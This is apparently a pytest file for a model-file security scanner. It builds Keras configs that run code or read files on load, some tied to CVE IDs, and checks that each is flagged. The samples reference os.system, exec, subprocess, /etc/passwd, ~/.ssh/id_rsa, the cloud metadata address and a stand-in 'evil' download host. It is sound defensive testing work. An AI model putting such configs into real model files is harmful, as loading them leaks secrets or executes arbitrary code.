"""Keras configs that run code or read files on load, even with ``safe_mode`` (issue 15 item 5).

Every sample is checked as a standalone ``config.json``, inside a ``.keras`` zip and as the
``model_config`` of a legacy ``.h5`` file; real models saved by Keras stay clean.
"""

from __future__ import annotations

import json
import os
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import modelseal
from modelseal.scanning.report import ScanReport
from tests.scanning.format_samples import dot_keras, keras_h5


def _config(layers: list[dict[str, Any]], **extra: Any) -> dict[str, Any]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "seq", "layers": layers},
        **extra,
    }


def _layer(cls: str, config: dict[str, Any], module: str = "keras.layers") -> dict[str, Any]:
    return {"module": module, "class_name": cls, "config": config, "registered_name": None}


def _fn(module: str, name: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


# (id, config, rule expected, CVE expected in the finding's message or "")
MALICIOUS: list[tuple[str, dict[str, Any], str, str]] = [
    (
        "get-file-function",  # keras.utils.get_file reached through a layer config
        _config([_layer("Activation", {"activation": _fn("keras.utils", "get_file")})]),
        "keras.unsafe-api",
        "CVE-2025-8747",
    ),
    (
        "get-file-src-module",
        _config(
            [_layer("get_file", {"origin": "http://evil/x.tgz"}, "keras.src.utils.file_utils")]
        ),
        "keras.unsafe-api",
        "CVE-2025-8747",
    ),
    (
        "lambda-load-model-unsafe",  # a Lambda calling keras.models.load_model(safe_mode=False)
        _config(
            [
                _layer(
                    "Lambda",
                    {"function": _fn("keras.models", "load_model"), "arguments": {"safe_mode": 0}},
                )
            ]
        ),
        "keras.unsafe-api",
        "CVE-2025-9906",
    ),
    (
        "enable-unsafe-deserialization",
        _config(
            [
                _layer(
                    "Activation",
                    {"activation": _fn("keras.config", "enable_unsafe_deserialization")},
                )
            ]
        ),
        "keras.unsafe-api",
        "CVE-2025-9906",
    ),
    (
        "string-lookup-local-file",
        _config([_layer("StringLookup", {"name": "s", "vocabulary": "/etc/passwd"})]),
        "keras.file-reference",
        "CVE-2025-12058",
    ),
    (
        "integer-lookup-url",
        _config([_layer("IntegerLookup", {"vocabulary": "http://169.254.169.254/latest"})]),
        "keras.file-reference",
        "CVE-2025-12058",
    ),
    (
        "text-vectorization-file",
        _config([_layer("TextVectorization", {"vocabulary": "gs://bucket/secrets.txt"})]),
        "keras.file-reference",
        "CVE-2025-12058",
    ),
    (
        "keras-hub-tokenizer-merges",
        _config(
            [
                _layer(
                    "BytePairTokenizer",
                    {"vocabulary": None, "merges": "~/.ssh/id_rsa"},
                    "keras_hub.tokenizers",
                )
            ]
        ),
        "keras.file-reference",
        "",
    ),
    (
        "module-os-system",
        _config([_layer("Activation", {"activation": _fn("os", "system")})]),
        "keras.module",
        "CVE-2025-1550",
    ),
    (
        "module-subprocess-class",
        _config([_layer("Popen", {"args": ["id"]}, "subprocess")]),
        "keras.module",
        "CVE-2025-1550",
    ),
    (
        "builtins-exec-function",
        _config([_layer("Activation", {"activation": _fn("builtins", "exec")})]),
        "keras.module",
        "CVE-2025-1550",
    ),
    (
        "lambda-bytecode",
        _config(
            [
                _layer(
                    "Lambda",
                    {"function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAA"}}},
                )
            ]
        ),
        "keras.lambda",
        "CVE-2024-3660",
    ),
    (
        "tf-keras-lambda",  # tf.keras 2 style: function_type "lambda" with marshalled code
        _config(
            [
                {
                    "class_name": "Custom",
                    "config": {"function": ["4wEAAAAA", None, None], "function_type": "lambda"},
                }
            ]
        ),
        "keras.lambda",
        "",
    ),
    (
        "torch-module-wrapper",
        _config([_layer("TorchModuleWrapper", {"module": "gAJjcG9zaXgKc3lzdGVt"})]),
        "keras.unsafe-api",
        "",
    ),
    (
        "class-name-past-the-head",  # detection never depends on the first 4 KiB
        {
            "padding": "x" * 8000,
            **_config([_layer("Activation", {"activation": _fn("os", "system")})]),
        },
        "keras.module",
        "",
    ),
]


def _standalone(doc: dict[str, Any], tmp: Path) -> bytes:
    return json.dumps(doc).encode()


def _zip(doc: dict[str, Any], tmp: Path) -> bytes:
    return dot_keras(json.dumps(doc).encode())


def _h5(doc: dict[str, Any], tmp: Path) -> bytes:
    pytest.importorskip("h5py")
    return keras_h5(json.dumps(doc).encode(), tmp / "build.h5")


CONTAINERS: dict[str, Callable[[dict[str, Any], Path], bytes]] = {
    "config.json": _standalone,
    "model.keras": _zip,
    "model.h5": _h5,
}


def _scan(tmp_path: Path, name: str, data: bytes) -> ScanReport:
    path = tmp_path / name
    path.write_bytes(data)
    report: ScanReport = modelseal.scan(path)
    return report


@pytest.mark.parametrize("container", sorted(CONTAINERS))
@pytest.mark.parametrize("case", MALICIOUS, ids=[c[0] for c in MALICIOUS])
def test_keras_config_that_executes_is_caught(
    case: tuple[str, dict[str, Any], str, str], container: str, tmp_path: Path
) -> None:
    _, doc, rule, cve = case
    report = _scan(tmp_path, container, CONTAINERS[container](doc, tmp_path))
    assert report.exit_code == 1, report.to_dict()
    hits = [f for f in report.findings if f.rule == rule]
    assert hits, report.to_dict()
    assert cve in " ".join(f.message for f in hits)


def test_builtins_function_that_is_a_keras_loss_is_not_flagged(tmp_path: Path) -> None:
    # What Keras itself writes for loss=keras.losses.mean_squared_error.
    doc = _config([], compile_config={"loss": _fn("builtins", "mean_squared_error")})
    assert _scan(tmp_path, "config.json", json.dumps(doc).encode()).clean


def test_lookup_layers_with_inline_vocabularies_are_clean(tmp_path: Path) -> None:
    doc = _config(
        [
            _layer("StringLookup", {"vocabulary": ["a", "b"], "num_oov_indices": 1}),
            _layer("IntegerLookup", {"vocabulary": None}),
            _layer("TextVectorization", {"vocabulary": None, "split": "whitespace"}),
            _layer("Hashing", {"num_bins": 3, "salt": None}),
        ]
    )
    assert _scan(tmp_path, "config.json", json.dumps(doc).encode()).clean


def _real_models(d: Path) -> list[Path]:
    os.environ.setdefault("KERAS_BACKEND", "torch")
    keras = pytest.importorskip("keras")
    inputs = keras.Input((4,))
    x = keras.layers.Dense(3, activation=keras.activations.gelu)(inputs)
    x = keras.layers.Normalization()(x)
    x = keras.layers.Dense(2, kernel_regularizer=keras.regularizers.L2(0.1))(x)
    functional = keras.Model(inputs, x)
    functional.compile(
        optimizer="adam",
        loss=keras.losses.mean_squared_error,
        metrics=[keras.metrics.mean_absolute_error],
    )
    functional.save(d / "functional.keras")
    sequential = keras.Sequential(
        [keras.Input((4,)), keras.layers.Dense(3), keras.layers.BatchNormalization()]
    )
    sequential.compile(optimizer="sgd", loss="mse", metrics=["mae"])
    sequential.save(d / "sequential.keras")
    sequential.save(d / "legacy.h5")
    sequential.save_weights(d / "only.weights.h5")
    (d / "config.json").write_bytes(zipfile.ZipFile(d / "functional.keras").read("config.json"))
    return sorted(d.iterdir())


def test_real_keras_models_stay_clean(tmp_path: Path) -> None:
    paths = _real_models(tmp_path)
    assert len(paths) == 5
    report = modelseal.scan(tmp_path)
    assert report.clean, report.to_dict()
    assert "keras-config" in {fmt for f in report.files for fmt in f.formats}


def test_config_with_a_byte_order_mark_is_still_a_keras_config(tmp_path: Path) -> None:
    # json.loads(bytes) accepts a UTF-8 BOM, so Keras loads this config.json; it must not slip
    # past the JSON sniffing as "text".
    doc = _config([_layer("Activation", {"activation": _fn("keras.utils", "get_file")})])
    data = b"\xef\xbb\xbf" + json.dumps(doc).encode()
    for name, blob in (("config.json", data), ("model.keras", dot_keras(data))):
        report = _scan(tmp_path, name, blob)
        assert "keras.unsafe-api" in {f.rule for f in report.findings}, report.to_dict()
